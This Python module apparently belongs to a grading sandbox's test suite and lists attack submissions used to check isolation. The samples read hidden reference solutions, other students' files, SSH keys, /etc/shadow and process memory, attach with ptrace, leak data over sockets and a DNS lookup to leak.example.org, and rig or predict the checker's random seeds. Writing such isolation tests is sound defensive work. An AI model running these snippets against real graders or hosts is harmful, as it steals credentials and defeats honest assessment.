"""Secrets: the reference, other students' work, keys, the grader's memory, and ways to carry them off."""

# ruff: noqa: E501  what is attacked with are texts
from __future__ import annotations

from .attack import Attack

SECRETS = tuple(
    Attack(name, "secrets", says, source, **more)
    for name, says, source, more in [
        (
            "reference_on_disk",
            "reads the reference by its path and executes it",
            """
            def double(x):
                names = {}
                exec(open("<<course>>/lessons/vault/solution.py").read(), names)
                return names["double"](x)
            """,
            {"needs": "files"},
        ),
        (
            "reference_searched",
            "walks over the disk for a file that looks like the reference",
            """
            import os, time
            def double(x):
                end = time.monotonic() + 0.6
                for top in ("<<course>>", "/work", "/root", "/home", "/srv", "/opt", "/tmp"):
                    for place, folders, names in os.walk(top):
                        if time.monotonic() > end:
                            break
                        if "solution.py" in names and "vault" in place:
                            found = {}
                            exec(open(os.path.join(place, "solution.py")).read(), found)
                            return found["double"](x)
                return 3 * x
            """,
            {"needs": "files"},
        ),
        (
            "checks_on_disk",
            "reads the checks, the wrong answers and the alternatives",
            """
            def double(x):
                found = []
                for name in ("test_exercises", "alternatives", "wrong_answers", "solution"):
                    try:
                        found.append(open(f"<<course>>/lessons/vault/{name}.py").read())
                    except OSError:
                        pass
                raise RuntimeError("".join(found)[-450:] or "nothing")
            """,
            {"needs": "files"},
        ),
        (
            "other_students",
            "executes another student's file",
            """
            def double(x):
                names = {}
                exec(open("<<students>>/alice.py").read(), names)
                return names["double"](x)
            """,
            {"needs": "files"},
        ),
        (
            "environment",
            "prints and raises every variable and key that it can find",
            """
            import glob, os
            def double(x):
                found = [str(dict(os.environ))]
                for name in glob.glob("/proc/*/environ") + ["<<home>>/.netrc", "<<home>>/.ssh/id_ed25519", "/etc/shadow"]:
                    try:
                        found.append(open(name, errors="replace").read().replace("\\0", " "))
                    except OSError:
                        pass
                secrets = [line for line in " ".join(found).split() if "token" in line.lower() or "key" in line.lower()]
                print(*secrets, *found)
                raise RuntimeError(" ".join(secrets)[:400])
            """,
            {"needs": "files"},
        ),
        (
            "parents_memory",
            "reads the memory of every process above it",
            """
            import ctypes, os, re
            def double(x):
                libc = ctypes.CDLL(None, use_errno=True)
                for process in {os.getppid(), <<judge>>, 1}:
                    try:
                        maps = open(f"/proc/{process}/maps").read().splitlines()
                        memory = open(f"/proc/{process}/mem", "rb")
                    except OSError:
                        continue
                    for line in maps[:400]:
                        first, last = (int(part, 16) for part in line.split()[0].split("-"))
                        try:
                            memory.seek(first)
                            found = re.search(rb"token-[a-z]+-[0-9a-f]{16}", memory.read(min(last - first, 2**22)))
                        except (OSError, ValueError, OverflowError):
                            continue
                        if found and process != os.getpid():
                            raise RuntimeError(found[0].decode())
                return 3 * x
            """,
            {"needs": "processes", "verdicts": ("fail", "timeout")},
        ),
        (
            "read_remote_memory",
            "reads the judge's memory with process_vm_readv",
            """
            import ctypes, os
            class Piece(ctypes.Structure):
                _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
            def double(x):
                libc = ctypes.CDLL(None, use_errno=True)
                local = ctypes.create_string_buffer(64)
                for process in (<<judge>>, os.getppid()):
                    mine = Piece(ctypes.addressof(local), 64)
                    theirs = Piece(id(None), 64)
                    if libc.process_vm_readv(process, ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0) > 0:
                        return 2 * x
                return 3 * x
            """,
            {"needs": "processes"},
        ),
        (
            "ptrace",
            "attaches to the judge as a debugger does",
            """
            import ctypes, os
            def double(x):
                libc = ctypes.CDLL(None, use_errno=True)
                for process in (<<judge>>, os.getppid()):
                    if process > 1 and libc.ptrace(16, process, 0, 0) == 0:
                        return 2 * x
                return 3 * x
            """,
            {"needs": "processes"},
        ),
        (
            "installed_solutions",
            "looks for an installed package that holds solutions",
            """
            import importlib.metadata, importlib.util, sys, os
            def double(x):
                for entry in sys.path:
                    for name in ("lessons/vault/solution.py", "coursekit/lessons/vault/solution.py", "solution.py"):
                        if os.path.exists(os.path.join(entry, name)):
                            found = {}
                            exec(open(os.path.join(entry, name)).read(), found)
                            return found["double"](x)
                for found in importlib.metadata.distributions():
                    if any("solution.py" == part.name for part in found.files or ()):
                        return 2 * x if "vault" in str(found.files) else 3 * x
                return 3 * x
            """,
            {"verdicts": ("fail", "timeout")},
        ),
        (
            "tcp",
            "sends what it was given to a listening socket",
            """
            import socket
            def double(x):
                for host in ("127.0.0.1", "localhost", "::1"):
                    try:
                        socket.create_connection((host, <<tcp>>), timeout=0.3).send(repr(x).encode())
                    except OSError:
                        pass
                return 3 * x
            """,
            {"needs": "processes"},
        ),
        (
            "udp",
            "sends datagrams, and asks for a name",
            """
            import socket
            def double(x):
                try:
                    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("127.0.0.1", <<udp>>))
                except OSError:
                    pass
                try:
                    socket.getaddrinfo("leak.example.org", 80)
                except OSError:
                    pass
                return 3 * x
            """,
            {"needs": "processes", "verdicts": ("fail", "timeout")},
        ),
        (
            "seed_control",
            "takes control of every source of random numbers",
            """
            import random, torch, numpy
            torch.manual_seed(0)
            torch.rand = torch.randn = lambda *shape, **_: torch.ones(1)
            torch.Generator.manual_seed = lambda self, seed: self
            random.seed(0)
            numpy.random.seed(0)
            torch.default_generator.set_state(torch.Generator().get_state())
            def double(x):
                return torch.full_like(x, 3.0)
            """,
            {"verdicts": ("fail", "crashed"), "neighbour": ("pass", "fail", "crashed")},
        ),
        (
            "seed_from_frame",
            "reads its seed from the frame of the worker, and foresees the inputs of the check",
            """
            import sys, torch
            def double(x):
                frame = sys._getframe()
                while frame := frame.f_back:
                    seed = frame.f_locals.get("seed")
                    for around in range(-3, 4):
                        if isinstance(seed, int):
                            rng = torch.Generator().manual_seed(seed + around)
                            foreseen = 1 + torch.rand(x.shape, generator=rng, dtype=x.dtype)
                            if foreseen.equal(x):
                                return 2 * x
                return 3 * x
            """,
            {},
        ),
        (
            "unix_sockets",
            "connects to sockets by path and by abstract name",
            r"""
            import socket
            def double(x):
                for address in ("<<unix>>", "\0<<abstract>>", "/run/docker.sock", "/var/run/docker.sock"):
                    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
                        try:
                            with socket.socket(socket.AF_UNIX, kind) as made:
                                made.connect(address)
                                made.send(b"x")
                        except OSError:
                            pass
                return 3 * x
            """,
            {"needs": "processes"},
        ),
        (
            "known_path",
            "reads and writes files at paths that it knows beforehand",
            """
            def double(x):
                found = []
                for name in ("<<home>>/canary", "<<tmp>>", "<<shm>>", "<<students>>/gradebook.csv"):
                    try:
                        found.append(open(name).read())
                        open(name, "a").write("x")
                    except OSError:
                        pass
                raise RuntimeError(" ".join(found) or "nothing")
            """,
            {"needs": "files"},
        ),
    ]
)
